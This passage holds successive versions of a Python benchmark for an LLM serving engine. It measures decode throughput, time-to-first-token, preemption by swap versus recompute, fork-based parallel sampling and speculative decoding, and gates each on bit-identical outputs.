    pf = dict(mlen=mlen, nblocks=nblocks,
              prefix_len=128 if tiny else 256,
              n_req=4 if tiny else 8, chunk=64)
    for fast in (True, False):
        name = "fast" if fast else "eager"
        ttft[name] = _bench_prefill_ttft(cfg, params, fast, **pf)
        outs = ttft[name].pop("outputs")
        rows.append({"scenario": "prefill_ttft", "config": name,
                     **ttft[name]})
        ttft[name]["outputs"] = outs
    assert ttft["fast"]["outputs"] == ttft["eager"]["outputs"], \
        "hot path changed greedy outputs!"

    cc = _compile_counts(cfg, params, mlen=mlen, nblocks=nblocks, chunk=64)
    rows.append({"scenario": "compile_count", "config": "fast", **cc})
    rows.append({"scenario": "summary", "config": "fast_vs_eager",
                 "decode_speedup": round(speedup, 2),
                 "outputs_bit_identical": True})
    return rows


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: smaller pool, fewer steps")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = run(tiny=args.tiny)
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
