"""Engine hot-path benchmark: the jitted/donated step loop vs the eager
reference loop (the pre-overhaul engine, kept as ``fast_path=False``).

Measures the per-node numbers the paper's throughput tables (§6) assume
the engine delivers:

* **decode** — steady-state continuous batching, all slots decoding:
  engine steps/sec, decode tokens/sec, step wall-time percentiles.  The
  eager loop pays a full pool copy per step (scan ys materialization +
  undonated jit outputs), so its throughput degrades with pool size while
  the hot path stays flat — the gap is the point of the overhaul.
* **prefill_ttft** — shared-prefix chat traffic with chunked prefill:
  mean/max time-to-first-token.  Greedy outputs must be bit-identical
  between the two engines (the refactor may change *when* tokens are
  computed, never *which*).
* **compile counts** — number of XLA executables after mixed traffic;
  bounded by the declared bucket grid (recompile regression guard).

``--scenario pressure`` instead measures swap-based preemption: long
generations over a deliberately undersized block pool, run three ways —
unpressured (big pool), recompute-preemption, and swap-preemption.
Greedy outputs must be bit-identical across all three, and swapping must
recompute at least ``MIN_SWAP_SAVINGS`` fewer prefill tokens than the
recompute policy (it resumes from restored KV instead of re-prefilling
the generated prefix).

    PYTHONPATH=src python -m benchmarks.engine_step_bench
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --tiny --json BENCH_engine_step.json       # the CI smoke run
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --scenario pressure --tiny --json BENCH_engine_pressure.json
"""
from __future__ import annotations

import argparse
import json
import time

import numpy as np

MIN_DECODE_SPEEDUP = 2.0
MIN_SWAP_SAVINGS = 0.5     # swap must recompute >=50% fewer tokens


def _engine(cfg, params, fast, *, mlen, nblocks, seqs=4, chunk=None):
    from repro.serving.engine import Engine
    return Engine(cfg, params, max_num_seqs=seqs, max_model_len=mlen,
                  block_size=16, num_blocks=nblocks, fast_path=fast,
                  prefill_chunk_size=chunk)


def _bench_decode(cfg, params, fast, *, mlen, nblocks, warmup, steps,
                  reps) -> dict:
    """Steady-state decode: all slots busy for the whole measured window
    (prompts are short, budgets long), per-step wall times recorded."""
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks)
    rs = np.random.RandomState(0)
    for _ in range(e.n_slots):
        e.submit(rs.randint(1, cfg.vocab_size, 32),
                 SamplingParams(max_new_tokens=mlen - 40))
    for _ in range(warmup):
        e.step()
    best = None
    for _ in range(reps):
        times = []
        toks = 0
        t0 = time.perf_counter()
        for _ in range(steps):
            s0 = time.perf_counter()
            toks += e.step()
            times.append(time.perf_counter() - s0)
        wall = time.perf_counter() - t0
        row = {
            "steps_per_s": round(steps / wall, 1),
            "decode_tok_per_s": round(toks / wall, 1),
            "step_ms_p50": round(float(np.percentile(times, 50)) * 1e3, 3),
            "step_ms_p95": round(float(np.percentile(times, 95)) * 1e3, 3),
        }
        if best is None or row["steps_per_s"] > best["steps_per_s"]:
            best = row
    assert len(e.running) == e.n_slots, "a sequence finished mid-measure"
    return best


def _bench_prefill_ttft(cfg, params, fast, *, mlen, nblocks, prefix_len,
                        n_req, chunk) -> dict:
    """Shared-prefix chat shape with chunked prefill; returns TTFT stats
    and the greedy outputs (for the cross-engine equivalence check)."""
    from repro.serving.engine import ReqState
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks, chunk=chunk)
    shared = list(range(1, prefix_len + 1))
    rs = np.random.RandomState(1)
    prompts = [np.asarray(shared + list(rs.randint(400, 500, 16)), np.int32)
               for _ in range(n_req)]
    t0 = time.monotonic()
    rids = [e.submit(p, SamplingParams(max_new_tokens=8)) for p in prompts]
    while e.has_work():
        e.step()
    wall = time.monotonic() - t0
    reqs = [e.requests[r] for r in rids]
    assert all(r.state == ReqState.FINISHED for r in reqs)
    ttfts = [r.t_first_token - r.t_submit for r in reqs]
    return {
        "wall_s": round(wall, 3),
        "ttft_mean_s": round(sum(ttfts) / len(ttfts), 3),
        "ttft_max_s": round(max(ttfts), 3),
        "prefill_computed": e.prefix_cache_stats()[
            "prefill_tokens_computed"],
        "outputs": [r.output for r in reqs],
    }


def _compile_counts(cfg, params, *, mlen, nblocks, chunk) -> dict:
    """Drive mixed prompt lengths / chunk offsets and report the compiled
    executable counts against the declared bucket bound."""
    e = _engine(cfg, params, True, mlen=mlen, nblocks=nblocks, chunk=chunk)
    rs = np.random.RandomState(2)
    for n in (5, 23, 48, 97, 31, 64):
        e.generate(rs.randint(1, cfg.vocab_size, n), 3)
    cc = e.compile_counts()
    assert cc["prefill"] <= e.prefill_bucket_count, cc
    return {"prefill_executables": cc["prefill"],
            "decode_executables": cc["decode"],
            "bucket_bound": e.prefill_bucket_count}


def run_pressure(tiny: bool = False) -> list[dict]:
    """Swap vs recompute preemption under memory pressure: one old long
    generation repeatedly steals blocks from two younger ones.  The
    figure of merit is *recomputed prefill tokens* beyond what the
    unpressured run computes — the O(generated tokens) tax the ROADMAP
    item exists to remove."""
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # staggered prompt lengths keep block-boundary crossings of different
    # sequences in different steps, so pressure resolves by preemption
    # (old steals from young), never by truncating the youngest
    gens = (80, 60, 40) if tiny else (160, 120, 80)
    prompts = [np.arange(1 + 40 * i, 1 + 40 * i + n)
               for i, n in enumerate((24, 20, 28))]
    # peak demand ~13 blocks of 16 in tiny (26 full); pool at ~60%
    need = sum(-(-(len(p) + g) // 16) for p, g in zip(prompts, gens))
    nblocks = max(int(need * 0.6), 8)

    def drive(swap_blocks, pool=None):
        from repro.serving.engine import Engine
        e = Engine(cfg, params, max_num_seqs=3, max_model_len=512,
                   block_size=16, num_blocks=pool or nblocks,
                   swap_blocks=swap_blocks)
        from repro.serving.sampling import SamplingParams
        rids = [e.submit(p, SamplingParams(max_new_tokens=g))
                for p, g in zip(prompts, gens)]
        steps = 0
        while e.has_work():
            e.step()
            steps += 1
            assert steps < 20000
        outs = [e.requests[r].output for r in rids]
        assert [len(o) for o in outs] == list(gens), \
            "a sequence was truncated — the pressure scenario is oversized"
        sw = e.swap_stats()
        return outs, {
            "prefill_tokens": e.prefill_tokens_computed,
            "preemptions": sw["preemptions"],
            "swap_out_blocks": sw["swap_out_blocks"],
            "swap_in_blocks": sw["swap_in_blocks"],
        }

    base_outs, base = drive(0, pool=3 * 512 // 16)
    rec_outs, rec = drive(0)
    sw_outs, sw = drive(nblocks)          # host pool mirrors the device

    assert base["preemptions"] == 0
    assert rec["preemptions"] >= 1, "scenario failed to create pressure"
    assert sw["swap_out_blocks"] >= 1, "scenario never exercised swap"
    assert rec_outs == base_outs, "recompute preemption changed outputs!"
    assert sw_outs == base_outs, "swap preemption changed outputs!"

    rec_extra = rec["prefill_tokens"] - base["prefill_tokens"]
    sw_extra = sw["prefill_tokens"] - base["prefill_tokens"]
    assert rec_extra > 0
    savings = 1.0 - sw_extra / rec_extra
    assert savings >= MIN_SWAP_SAVINGS, \
        f"swap recomputed only {savings:.0%} fewer tokens than " \
        f"recompute preemption (need >= {MIN_SWAP_SAVINGS:.0%})"

    rows = [{"scenario": "pressure", "config": name,
             "prefill_tokens": d["prefill_tokens"],
             "recomputed_tokens": d["prefill_tokens"]
             - base["prefill_tokens"],
             "preemptions": d["preemptions"],
             "swap_out_blocks": d["swap_out_blocks"],
             "swap_in_blocks": d["swap_in_blocks"]}
            for name, d in (("no_pressure", base), ("recompute", rec),
                            ("swap", sw))]
    rows.append({"scenario": "pressure", "config": "summary",
                 "pool_blocks": nblocks,
                 "recompute_extra_tokens": rec_extra,
                 "swap_extra_tokens": sw_extra,
                 "saved_vs_recompute_pct": round(savings * 100, 1),
                 "outputs_bit_identical": True})
    return rows


def run(tiny: bool = False) -> list[dict]:
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # pool sized the way a production deployment sizes it — to memory, not
    # to the live batch (spare blocks are the prefix cache's LRU estate).
    # The eager loop's per-step cost scales with this; the hot path's
    # doesn't, which is exactly what the bench demonstrates.
    mlen = 512
    nblocks = 512 if tiny else 1024
    warmup, steps, reps = (10, 40, 2) if tiny else (12, 120, 3)

    rows = []
    decode = {}
    for fast in (True, False):
        name = "fast" if fast else "eager"
        decode[name] = _bench_decode(cfg, params, fast, mlen=mlen,
                                     nblocks=nblocks, warmup=warmup,
                                     steps=steps, reps=reps)
        rows.append({"scenario": "decode", "config": name,
                     **decode[name]})
    speedup = decode["fast"]["decode_tok_per_s"] / \
        decode["eager"]["decode_tok_per_s"]
    assert speedup >= MIN_DECODE_SPEEDUP, \
        f"hot path only {speedup:.2f}x faster than the eager loop " \
        f"(need >= {MIN_DECODE_SPEEDUP}x)"

    ttft = {}
    pf = dict(mlen=mlen, nblocks=nblocks,
              prefix_len=128 if tiny else 256,
              n_req=4 if tiny else 8, chunk=64)
    for fast in (True, False):
        name = "fast" if fast else "eager"
        ttft[name] = _bench_prefill_ttft(cfg, params, fast, **pf)
        outs = ttft[name].pop("outputs")
        rows.append({"scenario": "prefill_ttft", "config": name,
                     **ttft[name]})
        ttft[name]["outputs"] = outs
    assert ttft["fast"]["outputs"] == ttft["eager"]["outputs"], \
        "hot path changed greedy outputs!"

    cc = _compile_counts(cfg, params, mlen=mlen, nblocks=nblocks, chunk=64)
    rows.append({"scenario": "compile_count", "config": "fast", **cc})
    rows.append({"scenario": "summary", "config": "fast_vs_eager",
                 "decode_speedup": round(speedup, 2),
                 "outputs_bit_identical": True})
    return rows


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: smaller pool, fewer steps")
    p.add_argument("--scenario", default="hotpath",
                   choices=("hotpath", "pressure"),
                   help="hotpath: jitted vs eager step loop (default); "
                        "pressure: swap vs recompute preemption under "
                        "an undersized block pool")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = (run_pressure(tiny=args.tiny) if args.scenario == "pressure"
            else run(tiny=args.tiny))
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
