"""Engine hot-path benchmark: the jitted/donated step loop vs the eager
reference loop (the pre-overhaul engine, kept as ``fast_path=False``).

Measures the per-node numbers the paper's throughput tables (§6) assume
the engine delivers:

* **decode** — steady-state continuous batching, all slots decoding:
  engine steps/sec, decode tokens/sec, step wall-time percentiles.  The
  eager loop pays a full pool copy per step (scan ys materialization +
  undonated jit outputs), so its throughput degrades with pool size while
  the hot path stays flat — the gap is the point of the overhaul.
* **prefill_ttft** — shared-prefix chat traffic with chunked prefill:
  mean/max time-to-first-token.  Greedy outputs must be bit-identical
  between the two engines (the refactor may change *when* tokens are
  computed, never *which*).
* **compile counts** — number of XLA executables after mixed traffic;
  bounded by the declared bucket grid (recompile regression guard).

``--scenario pressure`` instead measures swap-based preemption: long
generations over a deliberately undersized block pool, run three ways —
unpressured (big pool), recompute-preemption, and swap-preemption.
Greedy outputs must be bit-identical across all three, and swapping must
recompute at least ``MIN_SWAP_SAVINGS`` fewer prefill tokens than the
recompute policy (it resumes from restored KV instead of re-prefilling
the generated prefix).

``--scenario fork`` measures parallel sampling over sequence groups: one
``n=4`` request (prompt prefilled once, children fork and alias its KV
blocks, COW on divergence) against the workload the system previously had
to serve — 4 independent requests with no sharing (prefix caching off).
Gates: the group prefills >= ``MIN_FORK_SAVINGS`` fewer prompt tokens,
allocates strictly fewer physical device blocks, and its greedy outputs
are bit-identical to the ``n=1`` request's on both engine paths.

    PYTHONPATH=src python -m benchmarks.engine_step_bench
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --tiny --json BENCH_engine_step.json       # the CI smoke run
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --scenario pressure --tiny --json BENCH_engine_pressure.json
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --scenario fork --tiny --json BENCH_engine_fork.json
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --scenario families --tiny --json BENCH_engine_families.json
    PYTHONPATH=src python -m benchmarks.engine_step_bench \
        --scenario tp --tiny --json BENCH_engine_tp.json

``--scenario tp`` measures tensor-parallel serving over forced host
devices: greedy + seeded-sampled streams must be bit-identical to tp=1
(geometry must never leak into the sampled bits), ``compile_counts()``
must stay within the tp=1 bucket grid, and per-device resident KV bytes
at tp=2 must be <= ``MAX_TP_KV_RATIO`` of tp=1.
"""
from __future__ import annotations

import argparse
import json
import time

import numpy as np

MIN_DECODE_SPEEDUP = 2.0
MIN_SWAP_SAVINGS = 0.5     # swap must recompute >=50% fewer tokens
MIN_FORK_SAVINGS = 0.6     # n=4 fork must prefill >=60% fewer tokens
#                            than 4 independent (unshared) requests
MIN_SPEC_SPEEDUP = 2.0     # speculative decode tok/s vs the plain
#                            fast path on the repetitive-doc scenario
MIN_FAMILY_SPEEDUP = 2.0   # jitted fast path vs eager loop on a
#                            non-pure-GQA family (hybrid SSM+attention)
MIN_KV_QUANT_GAIN = 1.8    # resident-KV-block gain from fp8/int8 pools
#                            (theoretical: ~1.97x at head_dim=64 incl.
#                            the per-row f32 scale sidecar)
MAX_TP_KV_RATIO = 0.6      # per-device resident KV bytes at tp=2 vs
#                            tp=1 (theoretical 0.5: pools shard over
#                            kv_heads, only step state replicates)


def _engine(cfg, params, fast, *, mlen, nblocks, seqs=4, chunk=None):
    from repro.serving.engine import Engine
    return Engine(cfg, params, max_num_seqs=seqs, max_model_len=mlen,
                  block_size=16, num_blocks=nblocks, fast_path=fast,
                  prefill_chunk_size=chunk)


def _bench_decode(cfg, params, fast, *, mlen, nblocks, warmup, steps,
                  reps) -> dict:
    """Steady-state decode: all slots busy for the whole measured window
    (prompts are short, budgets long), per-step wall times recorded."""
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks)
    rs = np.random.RandomState(0)
    for _ in range(e.n_slots):
        e.submit(rs.randint(1, cfg.vocab_size, 32),
                 SamplingParams(max_new_tokens=mlen - 40))
    for _ in range(warmup):
        e.step()
    best = None
    for _ in range(reps):
        times = []
        toks = 0
        t0 = time.perf_counter()
        for _ in range(steps):
            s0 = time.perf_counter()
            toks += e.step()
            times.append(time.perf_counter() - s0)
        wall = time.perf_counter() - t0
        row = {
            "steps_per_s": round(steps / wall, 1),
            "decode_tok_per_s": round(toks / wall, 1),
            "step_ms_p50": round(float(np.percentile(times, 50)) * 1e3, 3),
            "step_ms_p95": round(float(np.percentile(times, 95)) * 1e3, 3),
        }
        if best is None or row["steps_per_s"] > best["steps_per_s"]:
            best = row
    assert len(e.running) == e.n_slots, "a sequence finished mid-measure"
    return best


def _bench_prefill_ttft(cfg, params, fast, *, mlen, nblocks, prefix_len,
                        n_req, chunk) -> dict:
    """Shared-prefix chat shape with chunked prefill; returns TTFT stats
    and the greedy outputs (for the cross-engine equivalence check)."""
    from repro.serving.engine import ReqState
    from repro.serving.sampling import SamplingParams
    e = _engine(cfg, params, fast, mlen=mlen, nblocks=nblocks, chunk=chunk)
    shared = list(range(1, prefix_len + 1))
    rs = np.random.RandomState(1)
    prompts = [np.asarray(shared + list(rs.randint(400, 500, 16)), np.int32)
               for _ in range(n_req)]
    t0 = time.monotonic()
    rids = [e.submit(p, SamplingParams(max_new_tokens=8)) for p in prompts]
    while e.has_work():
        e.step()
    wall = time.monotonic() - t0
    reqs = [e.requests[r] for r in rids]
    assert all(r.state == ReqState.FINISHED for r in reqs)
    ttfts = [r.t_first_token - r.t_submit for r in reqs]
    return {
        "wall_s": round(wall, 3),
        "ttft_mean_s": round(sum(ttfts) / len(ttfts), 3),
        "ttft_max_s": round(max(ttfts), 3),
        "prefill_computed": e.prefix_cache_stats()[
            "prefill_tokens_computed"],
        "outputs": [r.output for r in reqs],
    }


def _compile_counts(cfg, params, *, mlen, nblocks, chunk) -> dict:
    """Drive mixed prompt lengths / chunk offsets and report the compiled
    executable counts against the declared bucket bound."""
    e = _engine(cfg, params, True, mlen=mlen, nblocks=nblocks, chunk=chunk)
    rs = np.random.RandomState(2)
    for n in (5, 23, 48, 97, 31, 64):
        e.generate(rs.randint(1, cfg.vocab_size, n), 3)
    cc = e.compile_counts()
    assert cc["prefill"] <= e.prefill_bucket_count, cc
    return {"prefill_executables": cc["prefill"],
            "decode_executables": cc["decode"],
            "bucket_bound": e.prefill_bucket_count}


def run_pressure(tiny: bool = False) -> list[dict]:
    """Swap vs recompute preemption under memory pressure: one old long
    generation repeatedly steals blocks from two younger ones.  The
    figure of merit is *recomputed prefill tokens* beyond what the
    unpressured run computes — the O(generated tokens) tax the ROADMAP
    item exists to remove."""
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # staggered prompt lengths keep block-boundary crossings of different
    # sequences in different steps, so pressure resolves by preemption
    # (old steals from young), never by truncating the youngest
    gens = (80, 60, 40) if tiny else (160, 120, 80)
    prompts = [np.arange(1 + 40 * i, 1 + 40 * i + n)
               for i, n in enumerate((24, 20, 28))]
    # peak demand ~13 blocks of 16 in tiny (26 full); pool at ~60%
    need = sum(-(-(len(p) + g) // 16) for p, g in zip(prompts, gens))
    nblocks = max(int(need * 0.6), 8)

    def drive(swap_blocks, pool=None):
        from repro.serving.engine import Engine
        e = Engine(cfg, params, max_num_seqs=3, max_model_len=512,
                   block_size=16, num_blocks=pool or nblocks,
                   swap_blocks=swap_blocks)
        from repro.serving.sampling import SamplingParams
        rids = [e.submit(p, SamplingParams(max_new_tokens=g))
                for p, g in zip(prompts, gens)]
        steps = 0
        while e.has_work():
            e.step()
            steps += 1
            assert steps < 20000
        outs = [e.requests[r].output for r in rids]
        assert [len(o) for o in outs] == list(gens), \
            "a sequence was truncated — the pressure scenario is oversized"
        sw = e.swap_stats()
        return outs, {
            "prefill_tokens": e.prefill_tokens_computed,
            "preemptions": sw["preemptions"],
            "swap_out_blocks": sw["swap_out_blocks"],
            "swap_in_blocks": sw["swap_in_blocks"],
        }

    base_outs, base = drive(0, pool=3 * 512 // 16)
    rec_outs, rec = drive(0)
    sw_outs, sw = drive(nblocks)          # host pool mirrors the device

    assert base["preemptions"] == 0
    assert rec["preemptions"] >= 1, "scenario failed to create pressure"
    assert sw["swap_out_blocks"] >= 1, "scenario never exercised swap"
    assert rec_outs == base_outs, "recompute preemption changed outputs!"
    assert sw_outs == base_outs, "swap preemption changed outputs!"

    rec_extra = rec["prefill_tokens"] - base["prefill_tokens"]
    sw_extra = sw["prefill_tokens"] - base["prefill_tokens"]
    assert rec_extra > 0
    savings = 1.0 - sw_extra / rec_extra
    assert savings >= MIN_SWAP_SAVINGS, \
        f"swap recomputed only {savings:.0%} fewer tokens than " \
        f"recompute preemption (need >= {MIN_SWAP_SAVINGS:.0%})"

    rows = [{"scenario": "pressure", "config": name,
             "prefill_tokens": d["prefill_tokens"],
             "recomputed_tokens": d["prefill_tokens"]
             - base["prefill_tokens"],
             "preemptions": d["preemptions"],
             "swap_out_blocks": d["swap_out_blocks"],
             "swap_in_blocks": d["swap_in_blocks"]}
            for name, d in (("no_pressure", base), ("recompute", rec),
                            ("swap", sw))]
    rows.append({"scenario": "pressure", "config": "summary",
                 "pool_blocks": nblocks,
                 "recompute_extra_tokens": rec_extra,
                 "swap_extra_tokens": sw_extra,
                 "saved_vs_recompute_pct": round(savings * 100, 1),
                 "outputs_bit_identical": True})
    return rows


def run_fork(tiny: bool = False) -> list[dict]:
    """Parallel sampling (n=4 sequence group) vs 4 independent requests.

    The independent baseline runs with prefix caching *off*: it stands in
    for the pre-sequence-group workload — a client fanning one prompt out
    as separate requests with no guarantee of sharing (cross-replica
    routing, salted tenants, evictions).  A second caching-on baseline is
    recorded for context: even against engine-side prefix-cache hits the
    group wins, because a hit still re-prefills the un-cacheable tail
    block per request and re-takes block references, while forked
    children alias the prompt KV outright and pay nothing."""
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.sampling import SamplingParams

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    n = 4
    # deliberately NOT block-aligned: the children's first own tokens land
    # in the shared tail block, so the bench exercises the COW-on-first-
    # divergent-write path inside the jitted decode too
    prompt = np.arange(1, 101)                 # 100 tokens, blocks of 16
    gen = 16 if tiny else 32

    def mk(fast=True, caching=True):
        return Engine(cfg, params, max_num_seqs=n, max_model_len=256,
                      block_size=16, num_blocks=128, fast_path=fast,
                      enable_prefix_caching=caching)

    def drive(e, rids):
        t0 = time.perf_counter()
        steps = 0
        while e.has_work():
            e.step()
            steps += 1
            assert steps < 5000
        return time.perf_counter() - t0

    def fork_run(fast=True):
        e = mk(fast=fast)
        rid = e.submit(prompt, SamplingParams(max_new_tokens=gen,
                                              n=n, best_of=n))
        drive(e, [rid])
        g = e.group_of(rid)
        assert g.finished
        return [r.output for r in g.requests], e

    def indep_run(caching):
        e = mk(caching=caching)
        rids = [e.submit(prompt, SamplingParams(max_new_tokens=gen))
                for _ in range(n)]
        drive(e, rids)
        return [e.requests[r].output for r in rids], e

    fork_outs, e_fork = fork_run()
    fork_eager, _ = fork_run(fast=False)
    indep_outs, e_indep = indep_run(caching=False)
    cached_outs, e_cached = indep_run(caching=True)

    # correctness gates: greedy fork == n=1 == independent, on both paths
    e_one = mk()
    one = e_one.submit(prompt, SamplingParams(max_new_tokens=gen))
    drive(e_one, [one])
    ref = e_one.requests[one].output
    assert all(o == ref for o in fork_outs), "fork changed greedy outputs!"
    assert fork_eager == fork_outs, "eager fork path diverged!"
    assert all(o == ref for o in indep_outs)

    # efficiency gates: the prompt was prefilled once...
    fork_pf = e_fork.prefill_tokens_computed
    indep_pf = e_indep.prefill_tokens_computed
    cached_pf = e_cached.prefill_tokens_computed
    assert fork_pf == e_one.prefill_tokens_computed, \
        "the group must prefill its prompt exactly once"
    savings = 1.0 - fork_pf / indep_pf
    assert savings >= MIN_FORK_SAVINGS, \
        f"fork saved only {savings:.0%} of prefill tokens vs independent " \
        f"requests (need >= {MIN_FORK_SAVINGS:.0%})"
    # ...and the prompt's KV blocks were allocated once: strictly fewer
    # physical blocks popped than the unshared baseline (cached
    # independents can tie: their tail re-prefill pops about what the
    # group's COW copies do, but they still re-prefill 3 extra tails)
    assert e_fork.bm.popped_blocks < e_indep.bm.popped_blocks
    assert e_fork.bm.popped_blocks <= e_cached.bm.popped_blocks

    rows = [{"scenario": "fork", "config": name,
             "prefill_tokens": pf, "popped_blocks": e.bm.popped_blocks,
             "cow_copies": e.bm.stats.cow_copies,
             "forks": e.bm.stats.forks}
            for name, pf, e in (
                ("group_n4", fork_pf, e_fork),
                ("independent_x4", indep_pf, e_indep),
                ("independent_x4_cached", cached_pf, e_cached))]
    rows.append({"scenario": "fork", "config": "summary",
                 "prompt_tokens": len(prompt), "n": n,
                 "saved_vs_independent_pct": round(savings * 100, 1),
                 "saved_vs_cached_pct":
                     round((1.0 - fork_pf / cached_pf) * 100, 1),
                 "block_savings": e_indep.bm.popped_blocks
                 - e_fork.bm.popped_blocks,
                 "outputs_bit_identical": True})
    return rows


def run_spec(tiny: bool = False) -> list[dict]:
    """Self-speculative decoding on the traffic it targets: repetitive /
    document-grounded generation (the paper's RAG-style chat), where the
    model largely restates spans of its own context and prompt-lookup
    drafts are mostly right.

    One continuous-batching engine per config (plain fast path vs
    ``spec_draft_len=4``), all slots busy, driven to completion.  Gates:
    greedy outputs bit-identical, acceptance rate > 0, and decode
    throughput >= ``MIN_SPEC_SPEEDUP``x the plain fast path — multi-token
    commits must actually buy wall-clock, not just acceptance counts."""
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.sampling import SamplingParams

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    mlen = 1024
    seqs = 4
    gen = 160 if tiny else 256
    rs = np.random.RandomState(3)
    seeds = [rs.randint(1, cfg.vocab_size, 24) for _ in range(seqs)]
    # a "document" prompt: each seed extended with the model's own greedy
    # continuation, so the generation the benchmark measures restates
    # spans already present in the context — the RAG / quote-the-document
    # shape prompt-lookup targets.  (Bootstrapping from the model itself
    # is what makes this realizable with random weights; a trained model
    # quoting retrieved text behaves the same way.)
    boot = Engine(cfg, params, max_num_seqs=seqs, max_model_len=mlen,
                  block_size=16, num_blocks=seqs * mlen // 16,
                  fast_path=True)
    rids = [boot.submit(p, SamplingParams(max_new_tokens=256))
            for p in seeds]
    while boot.has_work():
        boot.step()
    prompts = [np.concatenate(
        [seeds[i], np.asarray(boot.requests[r].output, np.int32)])
        for i, r in enumerate(rids)]

    def bench(spec):
        e = Engine(cfg, params, max_num_seqs=seqs, max_model_len=mlen,
                   block_size=16, num_blocks=seqs * mlen // 16,
                   fast_path=True, spec_draft_len=4 if spec else 0)
        # warmup batch at full length: compiles prefill + decode
        # (+ verify) executables AND the small shape-specialized host->
        # device update ops (mirror patches vary in row count step to
        # step) — a short warmup leaves those compiling inside the
        # measured window
        for p in prompts:
            e.submit(p, SamplingParams(max_new_tokens=gen))
        while e.has_work():
            e.step()
        best = 0.0
        wall = 0.0
        for _ in range(2):          # best-of-2 measured windows (de-noise)
            rids = [e.submit(p, SamplingParams(max_new_tokens=gen))
                    for p in prompts]
            # drive prefill + the first decode dispatch outside the timed
            # window: prefill cost is identical in both configs and only
            # dilutes the decode ratio this scenario is about
            warm_toks = 0
            while not all(len(e.requests[r].output) for r in rids):
                warm_toks += e.step()
            toks = 0
            t0 = time.perf_counter()
            while e.has_work():
                toks += e.step()
            dt = time.perf_counter() - t0
            outs = [e.requests[r].output for r in rids]
            assert all(len(o) == gen for o in outs)
            assert warm_toks + toks == seqs * gen
            if toks / dt > best:
                best, wall = toks / dt, dt
        return outs, {
            "decode_tok_per_s": round(best, 1),
            "wall_s": round(wall, 3),
            "dispatches": e.spec_dispatches if spec else e.steps,
            **{k_: v for k_, v in e.spec_stats().items()
               if k_ != "enabled"},
        }, e

    plain_outs, plain, _ = bench(spec=False)
    spec_outs, spec, e_spec = bench(spec=True)

    assert spec_outs == plain_outs, "speculation changed greedy outputs!"
    assert spec["drafted_tokens"] > 0
    assert spec["acceptance_rate"] > 0, \
        "prompt-lookup never had a draft accepted on repetitive traffic"
    speedup = spec["decode_tok_per_s"] / plain["decode_tok_per_s"]
    assert speedup >= MIN_SPEC_SPEEDUP, \
        f"speculation only {speedup:.2f}x faster than the plain fast " \
        f"path (need >= {MIN_SPEC_SPEEDUP}x)"
    cc = e_spec.compile_counts()
    assert cc["spec_decode"] == 1, cc

    rows = [{"scenario": "spec", "config": "plain_fast", **plain},
            {"scenario": "spec", "config": "spec_k4", **spec}]
    rows.append({"scenario": "spec", "config": "summary",
                 "decode_speedup": round(speedup, 2),
                 "acceptance_rate": spec["acceptance_rate"],
                 "spec_executables": cc["spec_decode"],
                 "outputs_bit_identical": True})
    return rows


def run_families(tiny: bool = False) -> list[dict]:
    """The cache contract beyond pure GQA: every family must take the
    jitted fast path bit-identically, the hybrid (SSM+attention) family
    must show the same class of fast-vs-eager win the GQA overhaul bought
    (the eager loop's per-step pool materialization tax), and quantized
    KV pools must buy >= ``MIN_KV_QUANT_GAIN``x resident blocks while
    staying on the bf16 greedy trajectory."""
    import jax
    import jax.numpy as jnp

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import (
        Engine, _paged_cache_defs, _pool_block_bytes)
    from repro.serving.sampling import SamplingParams

    def build(arch):
        cfg = reduced(get_config(arch))
        return cfg, materialize(param_defs(cfg), jax.random.key(0))

    rows = []

    # --- bit-identity sweep: every family, fast vs eager, greedy ---
    gen = 10 if tiny else 16
    for arch in ("mamba2-1.3b", "jamba-1.5-large-398b",
                 "deepseek-v2-236b", "whisper-medium"):
        cfg, params = build(arch)
        rs = np.random.RandomState(0)
        prompts = [rs.randint(1, cfg.vocab_size, n) for n in (12, 29, 7)]
        outs = {}
        for fast in (True, False):
            e = Engine(cfg, params, max_num_seqs=4, max_model_len=128,
                       block_size=16, fast_path=fast)
            rids = [e.submit(p, SamplingParams(max_new_tokens=gen))
                    for p in prompts]
            steps = 0
            while e.has_work():
                e.step()
                steps += 1
                assert steps < 5000
